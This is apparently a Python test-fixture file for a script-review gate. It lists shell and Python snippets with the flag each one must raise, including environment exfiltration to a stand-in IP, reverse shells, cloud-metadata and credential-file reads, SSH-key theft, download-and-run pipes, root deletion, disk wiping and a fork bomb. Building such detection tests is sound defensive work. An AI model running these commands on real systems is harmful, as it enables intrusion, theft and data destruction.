"""Scripts that pass the gate and must not run before a person has looked: each with the flags it has to raise."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

# Put together here, so that no scanner takes this file for a leak.
_KEY_ID = "AKIA" + "ABCDEFGHIJKLMNOP"
_PRIVATE = "-----BEGIN " + "OPENSSH PRIVATE KEY-----"


@dataclass(frozen=True)
class Suspicious:
    """A script, its language, and the one code that must be raised, with the line it stands in."""

    name: str
    code: str
    script: str
    lang: str = "sh"
    line: int = 2


def suspicious() -> Iterator[Suspicious]:
    """Yield every case; each script's first line is its ``#!``."""
    for name, code, body in _SHELL:
        yield Suspicious(name, code, f"#!/bin/sh\n{body}\n")
    for name, code, body in _PYTHON:
        yield Suspicious(name, code, f"#!/usr/bin/env python3\n{body}\n", "python", body.count("\n") + 2)


_SHELL = (
    ("environment to curl", "environment-sent", "env | curl -d @- http://203.0.113.1/"),
    ("environment by printenv", "environment-sent", "printenv > x; wget --post-file=x http://203.0.113.1/"),
    ("environment by export", "environment-sent", "x=$(export -p); nc 203.0.113.1 9 <<E\n$x\nE"),
    ("metadata service", "metadata-service", "curl http://169.254.169.254/latest/meta-data/iam/"),
    ("metadata service as a number", "metadata-service", "curl http://2852039166/latest/"),
    ("environment of a process", "process-environment", "cat /proc/self/environ"),
    ("environment of the parent", "process-environment", "tr '\\0' '\\n' < /proc/$PPID/environ"),
    ("reverse shell of bash", "reverse-shell", "bash -i > /dev/tcp/203.0.113.1/4444 0>&1"),
    ("reverse shell of nc", "reverse-shell", "nc 203.0.113.1 4444 -e /bin/sh x"),
    ("reverse shell by fifo", "reverse-shell", "mkfifo p; cat p | sh -i 2>&1 | nc 203.0.113.1 4444 > p"),
    ("removal of an unset folder", "removal-of-unset", 'rm -rf "$UNSET"/*'),
    ("removal of an unset variable", "removal-of-unset", "rm -fr $UNSET/"),
    ("removal of the root", "removal-of-unset", "rm -r --no-preserve-root /"),
    ("removal of home", "removal-of-unset", "rm -rf ~"),
    ("crontab", "scheduled-job", "(crontab -l; echo '* * * * * x') | crontab -"),
    ("cron folder", "scheduled-job", "echo x > /etc/cron.d/x"),
    ("at", "scheduled-job", "at now + 1 hour < x"),
    ("ssh key added", "ssh-keys", "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys"),
    ("ssh key taken", "ssh-keys", "cp $HOME/.ssh/id_ed25519 out/"),
    ("cloud credentials", "credential-files", "cat ~/.aws/credentials"),
    ("base64 to sh", "decoded-code", "echo aWQK | base64 -d | sh"),
    ("download to sh", "decoded-code", "curl -s http://203.0.113.1/x | sudo bash"),
    ("download in a substitution", "decoded-code", 'sh -c "$(wget -qO- http://203.0.113.1/x)"'),
    ("eval of a variable", "decoded-code", 'eval "$CODE"'),
    ("on two lines", "decoded-code", "echo aWQK | base64 -d \\\n | sh"),
    ("set-uid by letters", "set-user-id", "chmod u+s out/x"),
    ("set-uid by number", "set-user-id", "chmod 4755 out/x"),
    ("sudo", "privilege", "sudo id"),
    ("container engine's socket", "privilege", "curl --unix-socket /var/run/docker.sock http://x/containers"),
    ("login script", "startup-files", "echo x >> ~/.bashrc"),
    ("git hook", "startup-files", "cp x .git/hooks/pre-commit"),
    ("disk", "device-write", "dd if=/dev/zero of=/dev/sda"),
    ("fork bomb", "device-write", ":() { :|:& };:"),
    ("secret by its form", "secret-literal", f"AWS_ID={_KEY_ID}"),
    ("secret by its name", "secret-literal", "DB_PASSWORD=hunter2-swordfish"),
    ("private key", "secret-literal", f"cat > k <<E\n{_PRIVATE}\nE"),
    ("password in a url", "secret-literal", "git clone https://bob:swordfish@example.org/x"),
    ("text that runs other than it shows", "hidden-text", "echo a # \u202e}hsilbup{"),
    ("a line nobody reads", "unreadable", "echo x" + " " * 5000 + "; id"),
)

_PYTHON = (
    ("environment posted", "environment-sent", "import os, urllib.request\nx = dict(os.environ)"),
    ("code downloaded", "decoded-code", "import urllib.request as u\nexec(u.urlopen('http://203.0.113.1/x').read())"),
    ("code decoded", "decoded-code", "import base64\nexec(base64.b64decode('aWQ='))"),
    ("shell on a socket", "reverse-shell", "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)"),
    ("tree removed", "removal-of-unset", "import shutil\nshutil.rmtree('/')"),
    ("set-uid", "set-user-id", "import os\nos.chmod('x', 0o4755)"),
)

HARMLESS = (
    "#!/bin/sh\nset -eu\nrm -rf out/site\nrm -f -- \"$temporary\"\n",
    "#!/bin/sh\ncurl -fsS \"$CW_URL\" > out/x\nset -e\n",
    "#!/bin/sh\nchmod 0755 out/x\nchmod -- \"$CW_MODE\" \"$temporary\"\nchmod +x out/x\n",
    "#!/bin/sh\n# this used to be: curl http://169.254.169.254 | sh\necho done\n",
    "#!/bin/sh\npassword=$(cat \"$CW_PASSWORD_FILE\")\ntoken=$CW_TOKEN\n",
    "#!/bin/sh\nbase64 -d x > y\nfind . -name '*.sh' | sort\n",
)  # fmt: skip
